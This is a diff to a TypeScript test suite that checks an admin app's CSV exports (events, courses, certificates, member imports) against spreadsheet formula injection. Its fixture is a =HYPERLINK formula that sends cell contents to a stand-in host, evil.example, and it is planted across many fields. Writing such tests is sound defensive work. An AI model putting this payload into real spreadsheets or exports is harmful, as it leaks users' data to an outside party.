@@ -8,21 +8,26 @@ import { newId } from "../../src/db/ids.ts";
 import {
   adminActions,
   announcements,
+  certificates,
   conversationMembers,
   conversations,
+  courseEnrollments,
   emailOutbox,
   eventRegistrations,
   memberFeedback,
   messageReports,
+  membershipTiers,
   messages,
   payments,
   projectApplications,
   roles,
+  sponsorshipPackages,
   users,
 } from "../../src/db/schema/index.ts";
 import { createAccount, sessionCookie } from "../helpers/auth.ts";
-import { makeCredential, makeEvent, makeProject, useTestDb } from "../helpers/db.ts";
-import { get } from "../helpers/http.ts";
+import { makeCourse, makeCredential, makeEvent, makeProject, useTestDb } from "../helpers/db.ts";
+import { get, postForm } from "../helpers/http.ts";
+import { postMultipart } from "./admin-events-helpers.ts";
 
 const db = useTestDb();
 const EVIL = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
@@ -58,6 +63,35 @@ beforeAll(async () => {
   const [message] = await db.insert(messages).values({ conversationId: channel!.id, seq: 1, senderId: member.id, content: EVIL, status: "SENT" }).returning();
   await db.insert(messageReports).values({ messageId: message!.id, reporterId: admin.id, reason: EVIL });
   await db.insert(memberFeedback).values({ userId: member.id, category: "BUG_REPORT", subject: EVIL, message: "CSV test", pageUrl: "/events" });
+  // At the door within the hour: the day's door events and that event's door list.
+  const door = await makeEvent(db, admin.id, {
+    title: `Núñez door ${tag}`,
+    location: EVIL,
+    status: "REGISTRATION_OPEN",
+    startDate: new Date(Date.now() + 3_600_000),
+    endDate: new Date(Date.now() + 7_200_000),
+  });
+  await db.insert(eventRegistrations).values({ eventId: door.id, userId: member.id, status: "REGISTERED" });
+  // Inactive, so no member sees them offered.
+  await db.insert(membershipTiers).values({ name: `Núñez tier ${tag}`, description: EVIL, price: "10.00", duration: 12, isActive: false });
+  await db.insert(sponsorshipPackages).values({ name: `Núñez package ${tag}`, description: EVIL, price: "10.00", isActive: false });
+  const course = await makeCourse(db, { title: `Núñez course ${tag}`, category: EVIL });
+  const [enrolment] = await db
+    .insert(courseEnrollments)
+    .values({ courseId: course.id, userId: member.id, status: "COMPLETED", progress: 100, completedAt: new Date() })
+    .returning();
+  await db.insert(certificates).values({ enrollmentId: enrolment!.id, userId: member.id, courseId: course.id, recipientName: "José Núñez", courseTitle: EVIL, hours: "2.00", credential: "csv-test" });
+  // A member import: a good row, and one whose first name is the formula (refused: the preview's rows with errors, and the report's failed row).
+  const upload = new FormData();
+  upload.set(
+    "file",
+    new File([`email,first_name,last_name\nimport-${tag}@example.org,José,Núñez\nbad-${tag}@example.org,"${EVIL.replace(/"/g, '""')}",Núñez\n`], "members.csv", { type: "text/csv" }),
+  );
+  const previewHtml = await (await postMultipart("/admin/users/import", upload, { id: admin.id, cookie })).text();
+  const errorsCsv = /href="(\/admin\/users\/import\/preview\/c[a-z2-7]{24}\/errors\.csv)"/.exec(previewHtml)?.[1];
+  const token = /name="token" value="(c[a-z2-7]{24})"/.exec(previewHtml)?.[1];
+  const committed = await postForm("/admin/users/import/commit", { token: token ?? "" }, { headers: { cookie } });
+  const reportPath = `${committed.headers.get("location")}/report.csv`;
 
   const q = encodeURIComponent(tag);
   paths = [
@@ -75,6 +109,15 @@ beforeAll(async () => {
     ["chapter channels", "/admin/messages/channels.csv"],
     ["reported messages", "/admin/messages/reports.csv?status=OPEN"],
     ["member feedback", `/admin/feedback/export.csv?q=${q}`],
+    ["events at the door", "/admin/events/checkin.csv"],
+    ["door list", `/admin/events/${door.id}/checkin.csv`],
+    ["membership tiers", "/admin/payments/tiers.csv"],
+    ["sponsorship packages", "/admin/payments/packages.csv"],
+    ["courses", `/admin/courses/export.csv?q=${q}`],
+    ["enrolments", `/admin/courses/${course.id}/enrollments.csv`],
+    ["certificates", `/admin/certificates/export.csv?member=${encodeURIComponent(member.email)}`],
+    ["member import report", reportPath],
+    ["member import preview errors", errorsCsv ?? "/admin/users/import/preview/missing/errors.csv"],
   ];
 });
 
@@ -99,7 +142,7 @@ describe("admin CSV exports", () => {
       if (/(^|[,\n])"?=HYPERLINK/.test(text)) failures.push(`${name}: a live =HYPERLINK cell`);
       if (!text.endsWith("\r\n") || /[^\r]\n/.test(text.replace(/"[^"]*"/g, ""))) failures.push(`${name}: rows not ended with CRLF`);
     }
-    expect(failures).toEqual([]);
-    expect(paths.length).toBe(14);
+    expect(failures.join("\n")).toBe("");
+    expect(paths.length).toBe(23);
   });
 });
